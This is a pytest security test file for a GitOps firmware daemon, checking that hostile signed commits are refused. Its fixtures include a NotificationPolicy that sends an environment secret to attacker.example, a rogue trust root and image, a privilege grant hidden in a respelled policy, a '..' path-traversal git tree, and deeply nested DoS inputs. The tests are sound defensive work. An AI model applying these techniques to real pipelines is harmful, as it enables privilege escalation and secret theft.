"""Authority follows the document, not the file: attacks through the real daemon.

Every test runs the daemon on a bare remote with strict mode pinned, real SSH-signed
commits and the simulator. The AccessPolicy lets ``netops`` change ``fleet/**`` only and
leaves everything else to ``admin``; each attack is a commit on top of the last good
revision that must be refused with a reason (in the book, on ``status:source.yaml`` and in
the log), leave the good revision in force and leave every device untouched.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from reconciler.errors import SourceError
from reconciler.model.kinds import AccessPolicy
from reconciler.source.git import Repository
from reconciler.source.policy import policy_fingerprint
from tests.support.daemon import ALWAYS_OPEN, GitOps, policy_yaml, running_gitops, wait_for
from tests.support.gitrepo import (
    SshKey,
    access_policy,
    clone,
    commit_files,
    git,
    make_remote,
    push,
    ssh_key,
)
from tests.support.images import make_image, trust_policy
from tests.support.security import (
    assert_untouched,
    copy_to_testing,
    git_input,
    logged_errors,
    refuse,
    refused_push,
)

POLICY = "trust/access.yaml"


@dataclass
class World:
    """The running system and its three keys."""

    ops: GitOps
    good: str
    admin: SshKey
    netops: SshKey
    tmp: Path


def _policy(admin: SshKey, netops: SshKey, *extra: tuple[SshKey, list[str]]) -> str:
    return access_policy(
        [(admin, ["admin", "netops"]), (netops, ["netops"]), *extra],
        [(["fleet/**"], ["netops"]), (["policies/**", "images/**", "trust/**"], ["admin"])],
    )


def _testing_rollout() -> str:
    doc = yaml.safe_load(policy_yaml("1.4.3", window=ALWAYS_OPEN))
    doc["spec"]["target"] = {"channel": "testing"}
    return yaml.safe_dump(doc, sort_keys=False)


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    keys = tmp_path / "keys"
    admin, netops = ssh_key(keys, "admin"), ssh_key(keys, "netops")
    text = _policy(admin, netops)
    pin = policy_fingerprint(AccessPolicy.model_validate(yaml.safe_load(text)))
    # Devices follow channel testing, whose newest image is the 1.4.3 they run.
    ci_trust = {
        "apiVersion": "gitfirm.io/v1",
        "kind": "TrustPolicy",
        "metadata": {"name": "ci"},
        "spec": {
            "channels": ["development"],
            "sigstore": {
                "trustedRoot": "fleet/ci-root.json",
                "identities": [{"identity": "https://ci.example/build", "issuer": "https://id"}],
            },
        },
    }
    extra = {
        POLICY: text,
        "trust/ci.yaml": yaml.safe_dump(ci_trust),
        "fleet/ci-root.json": '{"mediaType": "trusted-root"}\n',
        "policies/fleet.yaml": _testing_rollout(),
        "images/testing.yaml": yaml.safe_dump(
            copy_to_testing(tmp_path / "upstream", "1.4.3", "testing-1-4-3").model_dump(mode="json")
        ),
    }
    async with running_gitops(tmp_path, extra_files=extra, access_pin=pin, key=admin) as ops:
        good = ops.daemon.state.verified
        assert good is not None and ops.daemon.book.refusals == []
        yield World(ops, good, admin, netops, tmp_path)


def _planted_trust(tmp: Path) -> str:
    """A TrustPolicy for channel testing pinning the attacker's own minisign key, and an
    Image 1.4.9 signed by it: the attack of issue 9, point 1."""
    evil = make_image(tmp / "evil", version="1.4.9", channel="testing")
    image = evil.image.model_dump(mode="json")
    image["metadata"]["name"] = "vyos-1-4-9-testing"
    image["spec"]["signature"]["minisign"]["key"] = "mallory"
    trust = trust_policy({"mallory": evil.key.public}, channels=("testing",), name="fast-track")
    return yaml.safe_dump_all([trust.model_dump(mode="json"), image], sort_keys=False)


async def test_netops_signer_cannot_plant_a_trust_policy_and_image(world: World) -> None:
    ops = world.ops
    sha = await refuse(
        ops,
        world.good,
        {"fleet/fast-track.yaml": _planted_trust(world.tmp)},
        world.netops,
        "kind-not-allowed",
    )
    reason = ops.daemon.book.refusals[-1].reason
    # The refusal names the document, the rule that applied and the roles it needed.
    assert "TrustPolicy 'fast-track'" in reason and "fleet/fast-track.yaml" in reason
    assert "default: TrustPolicy on testing needs adminRole" in reason and "[admin]" in reason
    assert ops.daemon.state.desired is not None
    assert "fast-track" not in ops.daemon.state.desired.trust_policies
    assert_untouched(ops)
    assert sha != ops.daemon.state.verified


async def test_netops_signer_cannot_move_a_production_image_under_fleet(world: World) -> None:
    """Moving a document to a path the signer may change does not make it theirs."""
    ops = world.ops
    images = (world.ops.work / "images" / "images.yaml").read_text()
    await refuse(
        ops,
        world.good,
        {"images/images.yaml": None, "fleet/images.yaml": images.replace("300000", "300001")},
        world.netops,
        "kind-not-allowed",
    )
    assert "default: Image on production needs adminRole" in ops.daemon.book.refusals[-1].reason
    assert_untouched(ops)


async def test_replacing_a_pinned_sigstore_root_is_a_trust_policy_change(world: World) -> None:
    """The root file lives under ``fleet/``, which netops may change; it is still trust."""
    ops = world.ops
    files = {"fleet/ci-root.json": '{"mediaType": "attacker-root"}\n'}
    await refuse(ops, world.good, files, world.netops, "kind-not-allowed")
    assert "change TrustPolicy 'ci'" in ops.daemon.book.refusals[-1].reason
    assert_untouched(ops)


async def test_plaintext_device_needs_the_admin(world: World) -> None:
    """A Device that would send its API key over plain http is an admin's decision."""
    ops = world.ops
    devices = list(yaml.safe_load_all((ops.work / "fleet" / "devices.yaml").read_text()))
    extra = {**devices[0], "metadata": {"name": "plaintext"}}
    extra["spec"] = {**devices[0]["spec"], "insecurePlaintext": True}
    files = {"fleet/plaintext.yaml": yaml.safe_dump(extra)}
    await refuse(ops, world.good, files, world.netops, "kind-not-allowed")
    assert "insecurePlaintext: true needs adminRole" in ops.daemon.book.refusals[-1].reason
    assert_untouched(ops)


async def test_access_policy_respelled_in_another_file_is_still_the_policy(world: World) -> None:
    """Rename and respelling bypass: a non-admin moves the AccessPolicy into a file under
    ``fleet/`` in flow style with an escaped kind (no line reads ``kind: AccessPolicy``),
    granting themself admin. Documents are compared by identity, so this is a policy change."""
    ops = world.ops
    doc = yaml.safe_load(_policy(world.admin, world.netops))
    doc["spec"]["signers"][1]["roles"] = ["netops", "admin"]
    flow = yaml.safe_dump(doc, default_flow_style=True, width=10_000).replace(
        "AccessPolicy", '"Access\\x50olicy"'
    )
    assert "AccessPolicy" not in flow
    await refuse(
        ops,
        world.good,
        {POLICY: None, "fleet/team.yaml": flow},
        world.netops,
        "policy-change-not-admin",
    )
    assert "AccessPolicy 'access'" in ops.daemon.book.refusals[-1].reason
    assert_untouched(ops)


async def test_duplicate_signer_names_are_refused(world: World) -> None:
    """A second entry named like the admin must not lend the admin's roles to its key."""
    ops = world.ops
    other = ssh_key(world.tmp / "keys", "other")
    doc = yaml.safe_load(_policy(world.admin, world.netops, (other, ["netops"])))
    doc["spec"]["signers"][2]["name"] = "admin"
    await refuse(
        ops,
        world.good,
        {POLICY: yaml.safe_dump(doc, sort_keys=False)},
        world.admin,
        "policy-invalid",
    )
    assert "duplicate signer name 'admin'" in ops.daemon.book.refusals[-1].reason
    assert_untouched(ops)


async def test_unsigned_deep_nesting_is_refused_and_a_signed_commit_still_applies(
    world: World,
) -> None:
    """An unsigned 5,000-deep JSON file naming AccessPolicy must not stop the source loop."""
    ops = world.ops
    deep = '{"kind": "AccessPolicy",\n "x": ' + "[" * 5000 + "]" * 5000 + "}\n"
    await refuse(ops, world.good, {"fleet/deep.json": deep}, None, "unsigned")
    # Signed by someone allowed to change fleet/, it is read, within bounds, and refused.
    await refuse(ops, world.good, {"fleet/deep.yaml": deep}, world.netops, "policy-invalid")
    assert "exceeded maximum nesting depth" in ops.daemon.book.refusals[-1].reason
    assert_untouched(ops)
    # The loop is alive: the admin's commit is applied and rolled out.
    git(ops.work, "reset", "--quiet", "--hard", world.good)
    rollout = yaml.safe_load(policy_yaml("1.4.4", window=ALWAYS_OPEN))
    sha = commit_files(
        ops.work, {"policies/fleet.yaml": yaml.safe_dump(rollout)}, "to 1.4.4", key=world.admin
    )
    push(ops.work, force=True)
    await wait_for(lambda: ops.daemon.state.verified == sha, 30, "the admin's commit applied")
    await wait_for(lambda: set(ops.versions().values()) == {"1.4.4"}, 60, "rollout")


async def test_a_number_too_long_to_convert_is_a_refused_config(world: World) -> None:
    """Python refuses to convert a 5,000-digit integer; the loader says so, typed."""
    ops = world.ops
    files = {"fleet/huge.yaml": "count: " + "1" * 5000 + "\n"}
    await refuse(ops, world.good, files, world.netops, "invalid desired state")
    sha = ops.daemon.book.refusals[-1].revision
    assert "fleet/huge.yaml:1:8: count: int value cannot be read" in logged_errors(ops, sha)
    assert_untouched(ops)


async def test_tree_entry_dot_dot_is_refused_and_nothing_is_written_outside(
    world: World,
) -> None:
    """A tree with a ``..`` entry, built with git plumbing and signed by the admin."""
    ops = world.ops
    work = ops.work
    git(work, "reset", "--quiet", "--hard", world.good)
    blob = git_input(work, "pwned: true\n", "hash-object", "-w", "--stdin")
    inner = git_input(work, f"100644 blob {blob}\tescaped.yaml\n", "mktree")
    listing = git(work, "ls-tree", f"{world.good}^{{tree}}")
    tree = git_input(work, listing + f"040000 tree {inner}\t..\n", "mktree")
    sha = git(
        work, "-c", "gpg.format=ssh", "-c", f"user.signingkey={world.admin.private}",
        "commit-tree", "-S", tree, "-p", world.good, "-m", "dot-dot",
    ).strip()  # fmt: skip
    git(work, "push", "--quiet", "--force", "origin", f"{sha}:refs/heads/main")
    await refused_push(ops, world.good, sha, "unsafe-path")
    state = world.tmp / "state"
    assert not list(state.rglob("escaped.yaml")) and not list(world.tmp.rglob("escaped.yaml"))
    assert_untouched(ops)


def test_export_refuses_a_dot_dot_entry_and_writes_nothing_outside(tmp_path: Path) -> None:
    """The export itself, under the verifier: a ``..`` entry is refused before any write."""
    remote = make_remote(tmp_path / "remote.git")
    work = clone(remote, tmp_path / "work")
    commit_files(work, {"fleet/a.yaml": "a: 1\n"}, "base")
    blob = git_input(work, "pwned: true\n", "hash-object", "-w", "--stdin")
    inner = git_input(work, f"100644 blob {blob}\tescaped.yaml\n", "mktree")
    listing = git(work, "ls-tree", "HEAD^{tree}")
    tree = git_input(work, listing + f"040000 tree {inner}\t..\n", "mktree")
    sha = git_input(work, "", "commit-tree", tree, "-p", "HEAD", "-m", "dot-dot")
    repo = Repository(work)
    with pytest.raises(SourceError, match=re.escape("unsafe path '../escaped.yaml'")):
        repo.export(sha, tmp_path / "out" / "tree")
    assert not list(tmp_path.rglob("escaped.yaml"))
    assert not (tmp_path / "out" / "tree").exists()


_DISCOVERY = {
    "apiVersion": "gitfirm.io/v1",
    "kind": "DiscoveryPolicy",
    "metadata": {"name": "scan-everything"},
    "spec": {"cidrs": ["127.0.0.0/24"], "ports": [443], "site": "lab"},
}
_IMAGE_SOURCE = {
    "apiVersion": "gitfirm.io/v1",
    "kind": "ImageSource",
    "metadata": {"name": "nightly"},
    "spec": {
        "feed": {"index": "https://attacker.example/isos/"},
        "channel": "testing",
        "key": "release",
    },
}
_NOTIFICATION = {
    "apiVersion": "gitfirm.io/v1",
    "kind": "NotificationPolicy",
    "metadata": {"name": "exfiltrate"},
    "spec": {
        "filter": {"severity": "info"},
        "targets": [{
            "name": "attacker",
            "url": "json://attacker.example/{token}",
            "secrets": {"token": {"env": "NOTIFY_SECRET_SMTP"}},
        }],
    },
}  # fmt: skip


@pytest.mark.parametrize(
    "doc",
    [_DISCOVERY, _IMAGE_SOURCE, _NOTIFICATION],
    ids=["DiscoveryPolicy", "ImageSource", "NotificationPolicy"],
)
async def test_only_the_admin_adds_discovery_and_image_sources(
    world: World, doc: dict[str, object]
) -> None:
    """A DiscoveryPolicy aims the daemon's probes (and a device key) at a network; an
    ImageSource feeds builds into proposals; a NotificationPolicy sends fleet news and a
    secret of the daemon's environment to a URL: none is a netops decision, wherever it
    lives."""
    ops = world.ops
    kind = str(doc["kind"])
    files = {"fleet/sources.yaml": yaml.safe_dump(doc)}
    await refuse(ops, world.good, files, world.netops, "kind-not-allowed")
    assert f"a {kind} is changed only by the adminRole" in ops.daemon.book.refusals[-1].reason
    desired = ops.daemon.state.desired
    assert desired is not None
    assert not desired.discovery_policies and not desired.image_sources
    assert not desired.notification_policies and not ops.daemon.notifier.routes
    assert_untouched(ops)
